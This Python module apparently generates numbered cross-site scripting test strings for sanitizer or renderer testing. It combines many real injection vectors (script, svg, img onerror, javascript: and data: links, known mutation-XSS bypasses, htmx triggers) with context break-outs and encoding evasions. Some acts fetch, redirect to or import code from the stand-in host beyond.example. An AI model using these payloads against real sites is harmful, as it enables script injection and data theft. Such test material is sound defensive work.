"""Texts that would run a script, ask another server or leave the page wherever one is shown as markup.

A payload is an act (what would happen), in an element (where browsers would do it), behind a way out of what may be around it,
in some disguise. Each holds its number, of five digits, plainly. What runs says so with `ran(number)`, or asks `BEYOND`.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import islice

BEYOND = "beyond.example"
FIRST = 10_001

_ACTS = (
    "ran({n})",
    "window['ran']({n})",
    "top.ran`{n}`",
    "alert({n})",
    "fetch('//beyond.example/{n}')",
    "new Image().src='//beyond.example/{n}'",
    "location='//beyond.example/{n}'",
    "import('//beyond.example/{n}.js')",
    "setTimeout('ran({n})')",
    "[{n}].map(ran)",
)
ELEMENTS = (
    "<script>{act}</script>",
    "<ScRiPt >{act}</sCrIpT >",
    "<script src=//beyond.example/{n}.js></script>",
    "<script/x>{act}</script/x>",
    "<svg><script>{act}</script></svg>",
    "<svg onload={act}>",
    "<svg/onload={act}//",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{act}><text y=20>{n}</text></a></svg>",
    "<svg><image href=//beyond.example/{n}.png></svg>",
    "<svg><use href=//beyond.example/{n}.svg#x></svg>",
    "<img src=x onerror={act}>",
    '<img src="x" onerror="{act}">',
    "<img/src=x/onerror={act}>",
    "<img\nsrc=x\nonerror={act}>",
    "<img src=//beyond.example/{n}.png>",
    "<img srcset=//beyond.example/{n}.png>",
    "<image src=x onerror={act}>",
    "<body onload={act}>",
    "<body background=//beyond.example/{n}>",
    '<iframe srcdoc="<script>parent.ran({n})</script>"></iframe>',
    "<iframe src=javascript:{act}></iframe>",
    "<iframe src=//beyond.example/{n}></iframe>",
    "<iframe onload={act}></iframe>",
    "<object data=//beyond.example/{n}></object>",
    "<object data='data:text/html,<script>parent.ran({n})</script>'></object>",
    "<embed src=//beyond.example/{n}>",
    "<meta http-equiv=refresh content='0;url=//beyond.example/{n}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<base href=//beyond.example/{n}/><img src=y>",
    "<link rel=stylesheet href=//beyond.example/{n}.css>",
    "<link rel=prefetch href=//beyond.example/{n}>",
    "<style>@import '//beyond.example/{n}.css';</style>",
    "<style>*{{background:url(//beyond.example/{n})}}</style>",
    "<p style=background:url(//beyond.example/{n})>{n}</p>",
    "<input autofocus onfocus={act}>",
    "<select autofocus onfocus={act}></select>",
    "<xss contenteditable autofocus tabindex=1 onfocus={act}>",
    "<details open ontoggle={act}>",
    "<video src=x onerror={act}></video>",
    "<video poster=//beyond.example/{n}></video>",
    "<audio src=x onerror={act}>",
    "<video><source onerror={act}></video>",
    "<marquee onstart={act}>",
    "<form action=//beyond.example/{n}><button>{n}</button></form>",
    "<button formaction=javascript:{act}>{n}</button>",
    "<a href=javascript:{act}>{n}</a>",
    "<a href='data:text/html,<script>{act}</script>'>{n}</a>",
    "<table background=//beyond.example/{n}><td>x</table>",
    "<math><maction xlink:href=javascript:{act}>{n}</maction></math>",
    "<template><img src=x onerror={act}></template>",
    '<noscript><p title="</noscript><img src=x onerror={act}>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={act}&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror={act}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={act}>",
    "<!--><img src=x onerror={act}>-->",
    "<![CDATA[<img src=x onerror={act}>]]>",
    "<?xml-stylesheet href=//beyond.example/{n}.css?><img src=x onerror={act}>",
    "<div hx-get=//beyond.example/{n} hx-trigger=load>{n}</div>",
    "<div hx-get=/sources/progress hx-trigger=load hx-on::load={act}>{n}</div>",
    "<div data-hx-on:click={act} data-opens=capture>{n}</div>",
    "[{n}](javascript:{act})",
    "[{n}](JaVaScRiPt:{act})",
    "[{n}](<java\tscript:{act}>)",
    "[{n}](&#106;avascript:{act})",
    "[{n}](&Tab;javascript&colon;{act})",
    "[{n}](vbscript:{act})",
    "[{n}](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "![{n}](//beyond.example/{n}.png)",
    '![{n}](x"onerror={act})',
    "[{n}]\n\n[{n}]: javascript:{act}",
    "<javascript:{act}>",
    '<http://beyond.example/"onmouseover={act}//{n}>',
    '[{n}](//beyond.example/{n} "x\\" onmouseover={act} y=\\"")',
    '```html"onmouseover={act}\n<script>{act}</script>\n```',
    "| {n} | <script>{act}</script> |\n|---|---|\n| <img src=x onerror={act}> | [x](javascript:{act}) |",
    "# <img src=x onerror={act}>",
    "`<script>{act}</script>`",
    "javascript:{act}",
    "{{{{ {n} }}}}{{% include '{n}' %}}{{{{ {n}|safe }}}}",
    "${{{act}}}",
)
_WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</option></select>",
    "</code></pre>",
    "</text></svg>",
    "</a></li></ul>",
    "-->",
    "]]>",
    '" autofocus onfocus={act} x="',
    "' onmouseover={act} x='",
    '"/onpointerover={act} ',
    "\\",
    '\\">',
    ")*/;{act}//",
    "{{% endblock %}}",
    "\N{RIGHT-TO-LEFT OVERRIDE}",
)


def _same(text: str) -> str:
    return text


def _shouted(text: str) -> str:
    return text.replace("script", "SCRIPT").replace("onerror", "OnErRoR").replace("onload", "ONLOAD")


def _referenced(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _numbered(text: str) -> str:
    return text.replace("<", "&#60").replace(">", "&#x3e;").replace("(", "&lpar;")


def _twice(text: str) -> str:
    return text.replace("<", "&amp;lt;").replace(">", "&amp;gt;")


def _percent(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E").replace('"', "%22").replace(" ", "%20")


def _wide(text: str) -> str:
    return text.replace("<", "\N{FULLWIDTH LESS-THAN SIGN}").replace(">", "\N{FULLWIDTH GREATER-THAN SIGN}")


def _seven(text: str) -> str:
    return text.replace("<", "+ADw-").replace(">", "+AD4-")


def _hollow(text: str) -> str:
    return text.replace("<s", "<\0s").replace("on", "o\N{ZERO WIDTH SPACE}n").replace("java", "ja\N{SOFT HYPHEN}va")


def _split(text: str) -> str:
    return text.replace("javascript", "java\nscript").replace(" ", "\f").replace("script>", "script\t>")


def _nested(text: str) -> str:
    return text.replace("<script", "<scr<script>ipt").replace("onerror", "ononerrorerror")


def _escaped(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\x3e")


_DISGUISES: tuple[Callable[[str], str], ...] = (
    _same, _same, _same, _shouted, _referenced, _numbered, _twice, _percent, _wide, _seven, _hollow, _split, _nested, _escaped,
)  # fmt: skip


def plain(element: str, number: int, act: str = _ACTS[0]) -> str:
    """An element as it is, with its act."""
    return element.format(act=act.format(n=number), n=number)


def payloads(many: int) -> list[tuple[int, str]]:
    """So many, each with its number and unlike any other; every element comes before one comes again."""
    return list(islice(_made(), many))


def _made() -> Iterator[tuple[int, str]]:
    seen: set[str] = set()
    number = FIRST
    for turn in range(10_000):
        for place, element in enumerate(ELEMENTS):
            way_out = _WAYS_OUT[(place * 5 + turn) % len(_WAYS_OUT)]
            act = _ACTS[(place + 3 * turn) % len(_ACTS)].format(n=number)
            text = _DISGUISES[(place * 3 + turn * 5) % len(_DISGUISES)](
                way_out.format(act=act) + element.format(act=act, n=number)
            )
            if text.replace(str(number), "") not in seen:
                seen.add(text.replace(str(number), ""))
                yield number, text if str(number) in text else f"{text} {number}"
                number += 1
